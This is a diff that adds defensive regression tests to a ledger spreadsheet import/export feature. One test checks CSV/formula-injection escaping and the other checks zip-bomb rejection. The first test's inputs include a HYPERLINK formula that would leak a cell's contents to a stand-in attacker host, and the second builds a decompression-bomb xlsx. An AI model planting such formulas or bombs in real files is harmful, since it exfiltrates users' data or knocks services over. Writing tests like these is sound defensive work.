@@ -121,6 +121,24 @@ def test_export_then_import_round_trips(users, ledger, fwd):
     assert snapshot(copy) == before
 
 
+def test_formula_looking_cells_export_as_text_and_import_back_unchanged(users, ledger, fwd):
+    """#13.6: a ledger cell starting with = + - @ was written as a live formula."""
+    staff = users.fwd_staff
+    texts = ['=HYPERLINK("http://evil.example/?"&B3,"详情")', "+1 清理", "-2 楼道", "@SUM(A1)"]
+    rows = [row(n, 问题描述=text, 整改措施="=1+1") for n, text in enumerate(texts, start=1)]
+    ledger_import(actor=staff, ledger=ledger, rows=rows)  # as typed on the page: text, not formulas
+    before = snapshot(ledger)
+    assert [r[4] for r in before] == texts
+    content = ledger_export(ledger=ledger, entries=entry_export_rows(staff, ledger, {}), base_url="http://x")
+    ws = load_workbook(io.BytesIO(content)).active
+    cells = [ws.cell(row=r, column=c) for r in range(3, 7) for c in (3, 5)]
+    assert all(c.data_type == "s" and c.quotePrefix for c in cells), [(c.value, c.data_type) for c in cells]
+    assert [ws.cell(row=r, column=3).value for r in range(3, 7)] == texts
+    result = ledger_import(actor=staff, ledger=ledger, file=content)
+    assert (result.created, result.updated, result.unchanged) == (0, 0, 4)
+    assert snapshot(ledger) == before
+
+
 def test_export_embeds_thumbnails_and_links(users, ledger):
     staff = users.fwd_staff
     ledger_import(actor=staff, ledger=ledger, file=sheet([row(1)]))
@@ -163,6 +181,26 @@ def test_a_large_file_runs_in_the_background_with_progress(users, ledger, settin
     assert job.status == Job.Status.SUCCEEDED
     assert (job.total_rows, job.processed_rows, job.created_count) == (420, 420, 420)
     assert LedgerEntry.objects.filter(ledger=ledger).count() == 420
+
+
+def test_a_zip_bomb_is_refused_in_the_request_and_in_the_worker(users, ledger, settings):
+    """#13.12: the upload's row count (request) and the import (worker) both read through the checked pipeline."""
+    import time
+
+    from youlin.domain.tests.test_zip_bombs import SHEET, rows_xml, xlsx_with
+    from youlin.ledgers.imports import run_import
+
+    bomb = xlsx_with({SHEET: rows_xml(400_000)})
+    started = time.perf_counter()
+    job = ledger_import_start(actor=users.fwd_staff, ledger=ledger, filename="bomb.xlsx", content=bomb)
+    assert job.status == LedgerImport.Status.FAILED and "解压后过大" in job.message + str(job.errors)
+    # The worker, given the same file (as if it had been queued), refuses it too.
+    job = LedgerImport.objects.create(
+        ledger=ledger, actor=users.fwd_staff, filename="b.xlsx", content=bomb, total_rows=9999
+    )
+    assert run_import(job.pk) == LedgerImport.Status.FAILED
+    assert time.perf_counter() - started < 10
+    assert LedgerEntry.objects.count() == 0
 
 
 def test_a_small_file_with_a_bad_row_is_reported_at_once(users, ledger):
